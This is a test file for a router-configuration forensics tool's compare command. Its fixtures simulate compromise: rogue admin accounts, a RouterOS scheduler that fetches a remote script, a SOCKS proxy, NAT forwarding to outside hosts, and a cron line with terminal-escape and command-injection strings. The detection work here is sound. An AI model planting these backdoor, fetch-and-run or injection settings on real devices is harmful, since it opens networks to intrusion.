"""`devicehunt compare`: what changed is named, what one side did not show is never called added or removed."""

from __future__ import annotations

import json
import random
import re
import shutil
from pathlib import Path

import pytest

from devicehunt.cli import main
from devicehunt.compare import Change, Comparison, as_json, as_text, compare, status
from devicehunt.compare.rows import plan
from devicehunt.database import connect
from devicehunt.errors import UsageError
from tests.outputs import Outputs, hunt, write

CASES = Path(__file__).resolve().parent.parent / "fixtures" / "cases"
IOS = (CASES / "ios-branch" / "device" / "show_running-config.txt").read_text(encoding="utf-8")
ROUTEROS = (CASES / "routeros-branch" / "device" / "export.rsc").read_text(encoding="utf-8")
ACTIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def two(folder: Path, before: str, after: str, name: str = "show_running-config.txt") -> Comparison:
    """Compare two outputs of one name, each in a folder of its own."""
    for side, text in (("a", before), ("b", after)):
        (folder / side / "r1").mkdir(parents=True)
        (folder / side / "r1" / name).write_text(text, encoding="utf-8", newline="")
    return compare(folder / "a" / "r1", folder / "b" / "r1")


def told(found: Comparison) -> list[str]:
    """Kind, what and name of each change, in order."""
    return [f"{c.kind} {c.what} {c.name}" for c in found.changes]


def put(text: str, *changes: tuple[str, str]) -> str:
    """`text` with pieces replaced that are there."""
    for old, new in changes:
        assert old in text, old
        text = text.replace(old, new, 1)
    return text


# what the same means


IOS_ALIKE = put(
    IOS,
    ("Current configuration : 3310 bytes", "Current configuration : 3402 bytes"),
    ("! Last configuration change at 09:12:01 CET Tue Jan 6 2026 by netops\n", ""),
    ("ip domain name example.net\nip name-server 10.0.0.53\n", "ip name-server 10.0.0.53\n!\n! a remark\nip domain name example.net\n"),
    (" ip address 10.12.0.1 255.255.255.0\n ip nat inside\n", " ip nat inside   \n ip address 10.12.0.1 255.255.255.0\n"),
    ("ntp server 10.0.0.1\n", "ntp clock-period 17179862\nntp server 10.0.0.1\n"),
).replace("\n", "\r\n")
ROUTEROS_ALIKE = put(
    ROUTEROS,
    ("# nov/18/2026 07:30:00", "# nov/25/2026 01:02:03"),
    ("add name=WAN\nadd name=LAN\n", "add name=LAN\nadd name=WAN\n"),
    ("add bridge=br-lan interface=ether2", "add   interface=ether2 bridge=br-lan"),
    ("    ipsec-secret=9fK2mQ use-ipsec=required", "    use-ipsec=required \\\n    ipsec-secret=9fK2mQ"),
)


@pytest.mark.parametrize(("name", "before", "after"), [
    ("show_running-config.txt", IOS, IOS), ("show_running-config.txt", IOS, IOS_ALIKE),
    ("export.rsc", ROUTEROS, ROUTEROS), ("export.rsc", ROUTEROS, ROUTEROS_ALIKE),
])  # fmt: skip
def test_order_comments_blanks_and_counters_are_no_difference(tmp_path: Path, name: str, before: str, after: str) -> None:
    found = two(tmp_path, before, after, name)
    assert told(found) == []
    assert (found.unseen, status(found)) == ((), 0)
    assert "no difference\n" in as_text(found)


@pytest.mark.parametrize("case", ["relay-in-disguise", "ios-taken", "routeros-relay-by-scheduler", "whole-router"])
def test_a_device_and_itself_do_not_differ(case: str) -> None:
    found = compare(CASES / case, CASES / case)
    assert (told(found), found.alone, found.unseen, status(found)) == ([], (), (), 0)


# what changed, on each platform

IOS_CHANGES = [
    (("username breakglass", "username svc_backup privilege 15 secret 9 $9$aaaaaaaaaaaaaa$BBBBBBBBBBBBBBBBBB\nusername breakglass"),
     ["added account svc_backup"]),
    (("privilege 15 secret 9 $9$abc", "privilege 1 secret 9 $9$abc"), ["changed account breakglass"]),
    (("$9$abcdefghijklmn$ZYX", "$9$abcdefghijklmn$ZYY"), ["changed secret username breakglass privilege 15 secret 9 [masked]"]),
    (("ip ssh version 2\n",
      "ip ssh version 2\nip ssh pubkey-chain\n  username netops\n   key-hash ssh-rsa 00112233445566778899AABBCCDDEEFF x\n"),
     ["added SSH key account netops fingerprint MD5:00112233445566778899AABBCCDDEEFF"]),
    (("static tcp 10.12.0.20 443", "static tcp 198.51.100.77 443"),
     ["added NAT rule nat family ip inside source DNAT proto tcp dst 203.0.113.12 dst_port 8443 to_ip 198.51.100.77 to_port 443",
      "removed NAT rule nat family ip inside source DNAT proto tcp dst 203.0.113.12 dst_port 8443 to_ip 10.12.0.20 to_port 443"]),
    (('event manager applet BACKUP\n event timer cron cron-entry "0 3 * * *"\n action 1.0 cli command "enable"\n'
      ' action 2.0 cli command "copy running-config flash:auto.cfg"\n', ""),
     ["removed job event event manager BACKUP action 1.0 cli command"]),
    (("interface GigabitEthernet0/0\n", "interface Tunnel9\n tunnel source GigabitEthernet0/0\n tunnel destination 198.51.100.200\n!\n"
      "interface GigabitEthernet0/0\n"), ["added tunnel Tunnel9 gre"]),
    (("boot system flash:c2900-universalk9-mz.SPA.157-3.M8.bin", "boot system tftp c2900.bin 203.0.113.5"), ["changed image boot"]),
    ((" access-class MGMT in\n", ""), ["changed management access ssh interface line vty 0 4"]),
    (("no ip http server", "ip http server"), ["changed management access http port 80"]),
    (("default group MGMT local\naaa authorization", "default local\naaa authorization"),
     ["changed AAA order authentication login default"]),
    (("logging host 10.0.0.60\n", ""), ["removed log target syslog address_ip 10.0.0.60"]),
    ((" permit udp any any eq isakmp\n", " permit udp any any eq isakmp\n permit ip host 203.0.113.99 any\n"),
     ["added firewall rule acl family ip OUTSIDE ACCEPT src 203.0.113.99/32"]),
]  # fmt: skip
ROUTEROS_CHANGES = [
    (("/ppp secret\n", "/user\nadd group=full name=helper\n/ppp secret\n"), ["added account helper"]),
    (("/user ssh-keys\n" if "/user ssh-keys\n" in ROUTEROS else "/tool mac-server\n",
      "/user ssh-keys\nadd key-owner=ops@desk user=admin\n/tool mac-server\n"), ["added SSH key account admin ops@desk"]),
    (("to-addresses=10.31.1.20", "to-addresses=203.0.113.88"),
     ["added NAT rule nat family ip dstnat DNAT proto tcp dst 198.51.100.62 dst_port 25 to_ip 203.0.113.88"]),
    (("add interval=10m name=ddns on-event=ddns policy=read,write,policy,test \\\n    start-time=startup\n", ""),
     ["removed job scheduler /system scheduler ddns ddns"]),
    (("on-event=ddns policy", 'on-event="/tool fetch url=http://203.0.113.7/x.rsc" policy'),
     ["changed job scheduler /system scheduler ddns"]),
    (("/interface list\n", "/interface l2tp-client\nadd connect-to=203.0.113.77 disabled=no name=lvpn password=hunter22 user=bob\n"
      "/interface list\n"), ["added tunnel lvpn l2tp"]),
    (("/ip service\n", "/ip socks\nset enabled=yes port=4145\n/ip service\n"), ["added proxy socks"]),
    (("password=kJ82hh", "password=zz99ZZ"), ["changed secret /ppp secret anna account anna"]),
    (("set telnet disabled=yes\n", "set telnet disabled=no\n"), ["changed management access telnet port 23"]),
    (("servers=9.9.9.9,149.112.112.112", "servers=203.0.113.53,149.112.112.112"), ["added resolver scope system address_ip 203.0.113.53"]),
    (("add action=drop chain=input comment=\"drop the rest\"\n", ""), ["removed firewall rule filter family ip input DROP"]),
    (("in-interface-list=LAN\nadd action=drop chain=input", "in-interface-list=!LAN\nadd action=drop chain=input"),
     ["added firewall rule filter family ip input ACCEPT in_if list:!LAN"]),
    (("add name=vpn ranges=10.31.9.10-10.31.9.60", "add name=vpn ranges=10.31.9.10-10.31.9.99"), ["changed setting /ip pool add name=vpn"]),
]  # fmt: skip


@pytest.mark.parametrize(("name", "text", "change", "expected"), [
    *(("show_running-config.txt", IOS, c, e) for c, e in IOS_CHANGES), *(("export.rsc", ROUTEROS, c, e) for c, e in ROUTEROS_CHANGES),
])  # fmt: skip
def test_a_change_is_named_with_its_lines(tmp_path: Path, name: str, text: str, change: tuple[str, str], expected: list[str]) -> None:
    found = two(tmp_path, text, put(text, change), name)
    names = told(found)
    assert all(any(n.startswith(e) for n in names) for e in expected), names
    assert names[0] in expected or names[0].startswith(tuple(expected)), names  # the weightiest stands first
    assert (found.unseen, status(found)) == ((), 5)
    for one in found.changes:
        assert one.evidence_before if one.kind in ("removed", "changed") else not one.evidence_before
        assert one.evidence_after if one.kind in ("added", "changed") else not one.evidence_after
    for secret in ("kJ82hh", "zz99ZZ", "hunter22", "9fK2mQ", "ZYX", "ZYY", "S3cr3tPsk", "BBBBBBBB", "0822455D0A16544541"):
        assert secret not in as_text(found) + as_json(found)


def test_a_limit_that_went_away_is_a_change(tmp_path: Path) -> None:
    found = two(tmp_path, IOS, put(IOS, (" access-class MGMT in\n", "")))
    assert (found.changes[0].before, found.changes[0].after) == ({"acl": "MGMT"}, {"acl": "(none)"})


def test_rules_in_another_order_are_a_change(tmp_path: Path) -> None:
    rule = " deny   ip any any\n"
    moved = put(IOS, (rule, ""), (" permit esp host", rule + " permit esp host"))
    found = two(tmp_path, IOS, moved)
    assert told(found) == ["changed order of firewall rules acl family ip OUTSIDE"]
    assert (found.changes[0].before, found.changes[0].after) == ({"place": "4"}, {"place": "1"})
    assert found.changes[0].evidence_after is not None
    assert "deny" in found.changes[0].evidence_after.text


LINUX: Outputs = {
    "netstat -tulpn": "Active Internet connections (only servers)\n"
    "Proto Recv-Q Send-Q Local Address           Foreign Address         State       PID/Program name\n"
    "tcp        0      0 192.168.1.1:22          0.0.0.0:*               LISTEN      812/dropbear\n",
    "cat /etc/passwd": "root:x:0:0:root:/root:/bin/ash\n",
    "cat /etc/dropbear/authorized_keys": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOEsxIGSfnBpcJBmiqdqPfC4eCOJ3tPigeW9WdjEVoc9 admin@desk\n",
    "cat /etc/crontabs/root": "0 3 * * * /usr/sbin/logrotate /etc/logrotate.conf\n",
    "iptables-save": "*filter\n:INPUT DROP [0:0]\n:FORWARD DROP [0:0]\n:OUTPUT ACCEPT [0:0]\n-A INPUT -i br-lan -j ACCEPT\nCOMMIT\n",
}
PASSWD, KEYS, CRON = "cat /etc/passwd", "cat /etc/dropbear/authorized_keys", "cat /etc/crontabs/root"
FORWARD = "COMMIT\n*nat\n:PREROUTING ACCEPT [0:0]\n-A PREROUTING -p tcp -m tcp --dport 8443 -j DNAT --to-destination 203.0.113.9\nCOMMIT"
LINUX_CHANGES: list[tuple[str, tuple[str, str], str]] = [
    (PASSWD, ("/bin/ash\n", "/bin/ash\nsupport:x:0:0::/:/bin/ash\n"), "added account support"),
    (KEYS, ("AAAAIOEsxIGS", "AAAAIOEsxIGT"), "added SSH key account root"),
    (CRON, (str(LINUX[CRON]), "# nothing\n"), "removed job cron /etc/crontabs/root /usr/sbin/logrotate"),
    ("netstat -tulpn", ("192.168.1.1:22 ", "0.0.0.0:2222   "), "added listener proto tcp local_ip 0.0.0.0 local_port 2222"),
    ("iptables-save", (":INPUT DROP [0:0]", ":INPUT ACCEPT [7:420]"), "changed firewall policy filter family ip INPUT"),
    ("iptables-save", ("COMMIT", FORWARD), "added NAT rule nat family ip PREROUTING DNAT proto tcp dst_port 8443 to_ip 203.0.113.9"),
]


@pytest.mark.parametrize(("command", "change", "expected"), LINUX_CHANGES)
def test_a_change_of_a_linux_router_is_named(tmp_path: Path, command: str, change: tuple[str, str], expected: str) -> None:
    after = LINUX | {command: put(str(LINUX[command]), change)}
    found = compare(write(tmp_path / "a" / "r1", LINUX), write(tmp_path / "b" / "r1", after))
    assert any(n.startswith(expected) for n in told(found)), told(found)
    assert (found.unseen, status(found)) == ((), 5)


# what one side did not show


@pytest.mark.parametrize("command", [CRON, "netstat -tulpn", "iptables-save"])
@pytest.mark.parametrize("damage", ["missing", "absent", "denied", "cut", "garbled"])
def test_what_one_side_did_not_show_is_never_added_or_removed(tmp_path: Path, command: str, damage: str) -> None:
    worse: dict[str, str | bytes | None] = {
        "absent": None, "denied": "Permission denied\n", "cut": str(LINUX[command])[:-20], "garbled": b"\x00\x9f\x13\x00" * 40,
    }  # fmt: skip
    damaged: Outputs = {c: t for c, t in LINUX.items() if c != command}
    if damage != "missing":
        damaged[command] = worse[damage]
    write(tmp_path / "a" / "r1", LINUX)
    index = write(tmp_path / "b" / "r1", damaged) / "index.json"
    if damage == "cut":
        index.write_text(index.read_text().replace('"rc": 0', '"rc": 137'), encoding="utf-8")
    for sides in (("a", "b"), ("b", "a")):
        found = compare(tmp_path / sides[0] / "r1", tmp_path / sides[1] / "r1")
        assert {c.kind for c in found.changes} <= {"cannot-say"}, told(found)
        assert any(command in line for line in found.unseen), found.unseen
        assert status(found) in (4, 5)
        assert "CANNOT SAY" in as_text(found)


def test_another_file_of_the_same_kind_proves_nothing(tmp_path: Path) -> None:
    other = {c: t for c, t in LINUX.items() if "crontabs" not in c} | {"cat /etc/crontabs/admin": "0 4 * * * /usr/bin/true\n"}
    found = compare(write(tmp_path / "a" / "r1", LINUX), write(tmp_path / "b" / "r1", other))
    assert {c.kind for c in found.changes} == {"cannot-say"}, told(found)


def test_an_output_that_lists_the_same_stands_in(tmp_path: Path) -> None:
    ss = "Netid State  Recv-Q Send-Q Local Address:Port Peer Address:Port Process\n"
    other = {c: t for c, t in LINUX.items() if "netstat" not in c} | {"ss -tulpn": ss}
    found = compare(write(tmp_path / "a" / "r1", LINUX), write(tmp_path / "b" / "r1", other))
    assert told(found) == ["removed listener proto tcp local_ip 192.168.1.1 local_port 22"]


def test_defaults_that_an_export_leaves_out_are_not_gone(tmp_path: Path) -> None:
    found = compare(CASES / "routeros-home", CASES / "routeros-relay-by-scheduler")
    services = {c.name: c.kind for c in found.changes if c.what == "management access"}
    assert services["ssh port 22"] == "cannot-say"  # one side printed its services, the other exported them
    assert services["telnet port 23"] == "changed"
    assert not [c for c in found.changes if c.what == "file" and c.kind != "cannot-say"]


def test_a_part_of_a_configuration_says_nothing_of_the_rest(tmp_path: Path) -> None:
    part = ROUTEROS[: ROUTEROS.index("/ip address")].rsplit("\n", 3)[0] + "\n/interface wireguard peers\nadd allowed-address=10.3"
    found = two(tmp_path, ROUTEROS, part, "export.rsc")
    assert found.changes
    assert not [n for n in told(found) if n.startswith(("added", "removed"))] or status(found) == 5


def test_an_output_that_nothing_reads_is_said(tmp_path: Path) -> None:
    for side, text in (("a", "one\n"), ("b", "two\n")):
        folder = write(tmp_path / side / "r1", LINUX)
        (folder / "notes.dat").write_text(text)
    found = compare(tmp_path / "a" / "r1", tmp_path / "b" / "r1")
    assert told(found) == []
    assert [line for line in found.unseen if "nothing reads" in line]
    assert status(found) == 4


# fleets, golden configurations, snapshots, cases


def fleet(folder: Path, devices: dict[str, Outputs]) -> Path:
    """A hunted case of several devices."""
    hunt(folder, devices)
    return folder / "case"


def test_two_fleets_are_matched_by_name_and_their_findings_persist(tmp_path: Path) -> None:
    proxy = "  PID USER       VSZ STAT COMMAND\n    1 root      1508 S    init\n   66 root      1568 S    /tmp/.x/microsocks -p 1080\n"
    taken = LINUX | {"ps w": proxy}
    before = fleet(tmp_path / "a", {"r1": taken, "r2": LINUX, "r3": LINUX})
    after = fleet(tmp_path / "b", {"r1": taken, "r2": LINUX | {PASSWD: f"{LINUX[PASSWD]}x:x:0:0::/:/bin/ash\n"}, "r4": LINUX})
    found = compare(before, after)
    assert found.pairs == (("r1/1", "r1/1"), ("r2/1", "r2/1"))
    assert found.alone == ("r3: only on the first side", "r4: only on the second side")
    assert found.changes[0].kind == "persists"
    assert {c.device for c in found.changes if c.what == "account"} == {"r2"}
    assert not found.notes
    text = as_text(found)
    assert "= r1: " in text
    assert "r4: only on the second side" in text
    assert status(found) == 5
    back = compare(after, before)
    assert mirrored(back) == sorted(map(plain, found.changes))


def test_a_finding_that_a_side_could_not_make_is_neither_new_nor_gone(tmp_path: Path) -> None:
    proxy = "  PID USER       VSZ STAT COMMAND\n    1 root      1508 S    init\n   66 root      1568 S    /tmp/.x/microsocks -p 1080\n"
    seen = fleet(tmp_path / "a", {"r1": LINUX | {"ps w": proxy}})
    blind = fleet(tmp_path / "b", {"r1": LINUX})
    for sides in ((seen, blind), (blind, seen)):
        found = [c for c in compare(*sides).changes if c.key.get("rule", "").startswith("process-from-volatile")]
        assert found
        assert {c.kind for c in found} == {"cannot-say"}
    clean = fleet(tmp_path / "c", {"r1": LINUX | {"ps w": proxy.rsplit("   66", 1)[0]}})
    kinds = {c.kind for c in compare(seen, clean).changes if c.key.get("rule", "").startswith("process-from-volatile")}
    assert kinds == {"removed"}


def test_one_golden_configuration_stands_for_many_devices(tmp_path: Path) -> None:
    (tmp_path / "golden.cfg").write_text(IOS, encoding="utf-8")
    devices: dict[str, Outputs] = {
        "b1": {"show running-config": IOS.replace("branch-12", "branch-1")},
        "b2": {"show running-config": put(IOS, ("no ip http server", "ip http server"))},
    }
    case = fleet(tmp_path / "f", devices)
    found = compare(tmp_path / "golden.cfg", case)
    assert [b for _, b in found.pairs] == ["b1/1", "b2/1"]
    assert {(c.device, c.what) for c in found.changes} == {("b2", "management access"), ("b1", "device"), ("b1", "setting")}
    assert found.changes[0].device == "b2"
    assert found.notes  # the golden side was not hunted
    both = compare(tmp_path / "golden.cfg", case, devices=("golden", "b1"))
    assert {c.what for c in both.changes} == {"device", "setting"}


def test_two_snapshots_of_one_case(tmp_path: Path) -> None:
    write(tmp_path / "one" / "r1", LINUX)
    write(tmp_path / "two" / "r1", LINUX | {"cat /etc/crontabs/root": "* * * * * /tmp/x\n"})
    case = str(tmp_path / "case")
    for source in ("one", "two"):
        assert main(["hunt", str(tmp_path / source / "r1"), "-o", case, "--jobs", "1"]) in (3, 4)
    found = compare(case)
    assert found.pairs == (("r1/1", "r1/2"),)
    assert "added job cron /etc/crontabs/root /tmp/x" in told(found)
    assert told(compare(case, snapshots=("2", "1")))
    with pytest.raises(UsageError, match="no snapshot 9"):
        compare(case, snapshots=("1", "9"))


def test_wrong_calls_say_what_is_wrong(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "a.cfg").write_text(IOS, encoding="utf-8")
    one = str(tmp_path / "a.cfg")
    for arguments, says in (
        ([one, str(tmp_path / "none")], "no such source"), ([one], "same snapshot"),
        ([one, one, "--devices", "a", "b"], "no device b; there are a"), ([one, one, "--snapshots", "1", "2"], "no snapshot 2"),
    ):  # fmt: skip
        assert main(["compare", *arguments]) == 2
        assert says in capsys.readouterr().err
    assert main(["compare", one, one]) == 0


def test_nothing_is_left_behind(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(scratch))
    two(tmp_path, IOS, IOS_ALIKE)
    assert list(scratch.iterdir()) == []


# a and b, b and a


def plain(change: Change) -> tuple[str, ...]:
    """A change without what tells the sides apart but its kind."""
    named = change.name if change.kind != "changed" or change.what != "setting" else ""
    return (change.kind, change.device, change.what, named if change.kind != "changed" else "", json.dumps([change.before, change.after]))


def mirrored(found: Comparison) -> list[tuple[str, ...]]:
    """The changes as they would be with the sides swapped."""
    swap = {"added": "removed", "removed": "added"}
    return sorted((swap.get(k, k), d, w, n, json.dumps(json.loads(v)[::-1])) for k, d, w, n, v in map(plain, found.changes))


@pytest.mark.parametrize("seed", range(3))
@pytest.mark.parametrize(("name", "text"), [("show_running-config.txt", IOS), ("export.rsc", ROUTEROS)])
def test_compare_mirrors_compare_the_other_way_round(tmp_path: Path, name: str, text: str, seed: int) -> None:
    chosen = random.Random(seed)
    lines = text.replace("\\\n    ", "").splitlines(keepends=True)
    keep = [line for line in lines if line.startswith(("end", "version", "/", "#")) or chosen.random() > 0.15]
    other = "".join(keep).replace("10.0.0.", "10.0.9.").replace("10.31.1.2", "10.31.1.3")
    found = two(tmp_path, text, other, name)
    back = compare(tmp_path / "b" / "r1", tmp_path / "a" / "r1")
    assert found.changes
    assert mirrored(back) == sorted(map(plain, found.changes))
    assert len(as_json(found)) > 500


# hostile devices


def test_nothing_of_a_device_acts_on_a_terminal_or_makes_a_line(tmp_path: Path) -> None:
    evil = LINUX | {CRON: "* * * * * /tmp/\x1b]0;owned\x07\x1b[2J\u202e\u2066\x9b31m\\\"$(x)|<b>\u2028y\n"}
    found = compare(write(tmp_path / "a" / "r1", LINUX), write(tmp_path / "b" / "r1", evil))
    text = as_text(found)
    assert not ACTIVE.search(text)
    assert "\u2028" not in text
    assert "\\x1b]0;owned" in text
    assert "\\u2028y" in text
    assert text.splitlines() == text.removesuffix("\n").split("\n")
    assert not ACTIVE.search(as_json(found).replace("\n", ""))


def test_hostile_device_names_are_escaped(tmp_path: Path) -> None:
    for side in ("a", "b"):
        write(tmp_path / side / "r\x1b[31m\u202e1", LINUX)
        shutil.copytree(tmp_path / side / "r\x1b[31m\u202e1", tmp_path / side / "r2")
    found = compare(next((tmp_path / "a").glob("r\x1b*")), tmp_path / "b" / "r2")
    assert not ACTIVE.search(as_text(found) + json.dumps(json.loads(as_json(found))))


# the data


def test_every_table_and_column_of_the_plan_exists() -> None:
    con = connect(views=False)
    for table in plan():
        columns = [*table.key, *table.values, *table.pair, *table.order, table.rank] + (["position"] if table.order else [])
        con.execute(f"select {', '.join(columns)} from {table.table} where {table.where}")
        assert set(table.pair) | set(table.order) <= set(table.key)


def test_json_says_the_same_as_the_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for side, text in (("a", IOS), ("b", put(IOS, ("no ip http server", "ip http server")))):
        (tmp_path / f"{side}.cfg").write_text(text, encoding="utf-8")
    assert main(["compare", str(tmp_path / "a.cfg"), str(tmp_path / "b.cfg"), "--format", "json"]) == 5
    found = json.loads(capsys.readouterr().out)
    assert found["pairs"] == [["a/1", "b/1"]]
    (change,) = found["changes"]
    assert (change["kind"], change["before"], change["after"]) == ("changed", {"enabled": "false"}, {"enabled": "true"})
    assert change["evidence_after"]["text"] == "ip http server"
